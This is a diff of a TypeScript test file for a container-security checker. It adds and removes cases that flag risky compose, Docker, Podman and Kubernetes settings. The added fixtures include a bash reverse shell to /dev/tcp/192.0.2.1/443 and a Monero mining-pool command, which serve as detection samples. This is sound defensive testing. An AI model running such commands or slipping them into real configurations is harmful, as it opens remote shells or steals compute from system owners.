@@ -1,22 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { readInput } from '../inputs/read-input.ts';
-import { SceneParts } from '../inputs/scene-parts.ts';
-import { allChecks, runChecks } from '../run-checks.ts';
-
-const now = Date.UTC(2026, 0, 1) * 1000;
-
-/** Sentences of one check about inputs; each input is a name and a text. */
-function sentences(id: string, ...inputs: readonly (readonly [name: string, text: string])[]): string[] {
-  const parts = new SceneParts();
-  for (const [name, text] of inputs) expect(readInput(`/${name}`, text, parts)).toBe(true);
-  const asked = allChecks.filter((check) => check.id === id);
-  expect(asked).toHaveLength(1);
-  return runChecks(parts.scene(now), asked).claims.map(({ sentence = '' }) => sentence);
-}
-
-function service(lines: readonly string[]): readonly [string, string] {
-  return ['compose.yml', `services:\n  web:\n    image: web:1.2\n${lines.map((line) => `    ${line}\n`).join('')}`];
-}
+import { sentences, service } from '../../../../tests/support/check-sentences.ts';
+import { allChecks } from '../run-checks.ts';
 
 function dockerfile(...lines: readonly string[]): readonly [string, string] {
   return ['Dockerfile', `FROM base:1.2\n${lines.join('\n')}\n`];
@@ -33,6 +17,17 @@ function inspected(config: object, host: object): readonly [string, string] {
     'inspect.json',
     JSON.stringify([{ Name: '/c', State: { Status: 'running' }, Config: config, HostConfig: host }]),
   ];
+}
+
+function podmanContainer(left: readonly string[]): readonly [string, string] {
+  const container = {
+    Name: 'c',
+    OCIRuntime: 'crun',
+    BoundingCaps: left,
+    Config: {},
+    HostConfig: { CapDrop: ['CAP_KILL'] },
+  };
+  return ['podman.json', JSON.stringify([container])];
 }
 
 type Input = readonly [name: string, text: string];
@@ -61,6 +56,19 @@ const cases: readonly (readonly [id: string, input: Input, said: readonly string
     service(['volumes: ["/run/user/1000/podman/podman.sock:/s"]']),
     ['service web mounts /run/user/1000/podman/podman.sock at /s'],
   ],
+  [
+    'miner',
+    service(['command: ["-o", "stratum+tcp://pool.example:3333", "--coin=monero"]']),
+    ['service web is started so: protocol of mining pools, coin to be mined'],
+  ],
+  ['miner', service(['command: ["nginx"]']), []],
+  [
+    'backdoor-script',
+    service(['command: ["sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"]']),
+    ['service web is started so: opens a shell to the network'],
+  ],
+  ['capabilities-kept', podmanContainer([]), []],
+  ['capabilities-kept', podmanContainer(['CAP_CHOWN']), ['container c does not drop all capabilities']],
   ['engine-socket', service(['volumes: ["data:/var/run/docker.sock"]']), []],
   [
     'host-path',
@@ -335,6 +343,14 @@ const cases: readonly (readonly [id: string, input: Input, said: readonly string
     ['container c is privileged, behind Kata Containers'],
   ],
   [
+    'engine-api-open',
+    [
+      'ps.txt',
+      'UID PID PPID C STIME TTY TIME CMD\nroot 1 0 0 10:00 ? 00:00:01 /usr/bin/dockerd -H tcp://10.0.0.1:2375 --icc=false\n',
+    ],
+    ['the engine listens on 10.0.0.1, port 2375, without asking for a certificate'],
+  ],
+  [
     'engine-outdated',
     ['version.json', '{"Server": {"Version": "27.1.0", "Components": [{"Name": "runc", "Version": "1.1.11"}]}}'],
     [
@@ -374,114 +390,5 @@ describe('every check', () => {
       expect({ id, references: references.length > 0 }).toEqual({ id, references: true });
       expect(attack.filter((technique) => !/^T\d{4}(?:\.\d{3})?$/.test(technique))).toEqual([]);
     }
-  });
-});
-
-function object(kind: string, rest: object): readonly [string, string] {
-  return [
-    'o.json',
-    JSON.stringify({ apiVersion: 'rbac.authorization.k8s.io/v1', kind, metadata: { name: 'o' }, ...rest }),
-  ];
-}
-
-describe('objects of a cluster', () => {
-  it.each([
-    [
-      'broad-role',
-      object('Role', { rules: [{ resources: ['*'], verbs: ['get'] }] }),
-      ['Role/o may get all resources of its namespace, secrets among them'],
-    ],
-    [
-      'broad-role',
-      object('ClusterRole', { rules: [{ resources: ['secrets'], verbs: ['list'] }] }),
-      ['ClusterRole/o may read secrets of the cluster'],
-    ],
-    ['broad-role', object('Role', { rules: [{ resources: ['configmaps'], verbs: ['*'] }] }), []],
-    [
-      'cluster-admin',
-      object('ClusterRoleBinding', {
-        roleRef: { name: 'cluster-admin' },
-        subjects: [{ kind: 'ServiceAccount', name: 'ci' }],
-      }),
-      ['ClusterRoleBinding/o gives cluster-admin to ServiceAccount ci'],
-    ],
-    [
-      'cluster-admin',
-      object('ClusterRoleBinding', {
-        roleRef: { name: 'view' },
-        subjects: [{ kind: 'Group', name: 'system:unauthenticated' }],
-      }),
-      ['ClusterRoleBinding/o gives view to system:unauthenticated'],
-    ],
-    [
-      'cluster-admin',
-      object('RoleBinding', { roleRef: { name: 'view' }, subjects: [{ kind: 'User', name: 'a' }] }),
-      [],
-    ],
-    [
-      'secret-in-manifest',
-      ['s.yaml', 'apiVersion: v1\nkind: Secret\nmetadata: { name: s }\ndata: { key: aGVsbG8gd29ybGQ= }\n'],
-      ['Secret/s holds the value of key'],
-    ],
-    [
-      'secret-in-manifest',
-      ['s.yaml', 'apiVersion: v1\nkind: Secret\nmetadata: { name: s }\nstringData: { key: "${KEY}" }\n'],
-      [],
-    ],
-    [
-      'default-namespace',
-      ['d.yaml', 'apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: d, namespace: default }\n'],
-      ['Deployment/d stands in the default namespace'],
-    ],
-    ['default-namespace', ['d.yaml', 'apiVersion: v1\nkind: Service\nmetadata: { name: d, namespace: default }\n'], []],
-  ] as const)('%s of %j', (id, input, said) => {
-    expect(sentences(id, input)).toEqual(said);
-  });
-});
-
-describe('the audit of a host', () => {
-  it('is asked for what it does not watch', () => {
-    const watches =
-      '-w /usr/bin/dockerd -p wa -k d\n-w /etc/docker -p rwxa\n-w /usr/bin/runc -p r\n-a always,exit -F dir=/run/containerd -F perm=wa\n';
-    const said = sentences('audit-rules', ['auditctl.txt', watches]);
-    expect(said).toContain(
-      'the host watches neither /usr/bin/runc nor /usr/sbin/runc nor /usr/bin/docker-runc: what starts containers',
-    );
-    expect(said.filter((sentence) => /daemon\.json|dockerd|containerd\.sock/.test(sentence))).toEqual([]);
-    expect(said).toHaveLength(9);
-  });
-
-  it('is told of when it is empty', () => {
-    expect(sentences('audit-rules', ['auditctl.txt', 'No rules\n'])).toHaveLength(14);
-  });
-});
-
-describe('an engine beside its containers', () => {
-  it('counts for them', () => {
-    const web = service([]);
-    expect(
-      sentences('privilege-escalation', web, ['daemon.json', '{"no-new-privileges": true, "icc": false}']),
-    ).toEqual([]);
-  });
-
-  it('opens ports that ufw closes, as long as it writes the rules itself and nothing shows them', () => {
-    const ufw = [
-      'ufw.txt',
-      'Status: active\nDefault: deny (incoming), allow (outgoing)\n\n443/tcp    ALLOW IN    Anywhere\n',
-    ] as const;
-    const web = service(['ports: ["8080:80", "443:443", "127.0.0.1:9:9"]']);
-    expect(sentences('firewall-bypass', ufw, web)).toEqual([
-      'the host most likely lets strangers to port 8080/tcp, port 80 of the container web, although ufw closes it',
-    ]);
-    expect(sentences('firewall-bypass', ufw, web, ['daemon.json', '{"iptables": false}'])).toEqual([]);
-  });
-
-  it('listens where a socket of it listens, whatever its settings say', () => {
-    const listed =
-      'State  Recv-Q Send-Q Local Address:Port Peer Address:PortProcess\nLISTEN 0 4096 *:2375 *:* users:(("dockerd",pid=1,fd=8))\n';
-    const daemon = ['daemon.json', '{"icc": false}'] as const;
-    expect(sentences('engine-api-open', ['ss.txt', listed], daemon)).toEqual([
-      'the engine listens on every address, port 2375, without asking for a certificate',
-    ]);
   });
 });
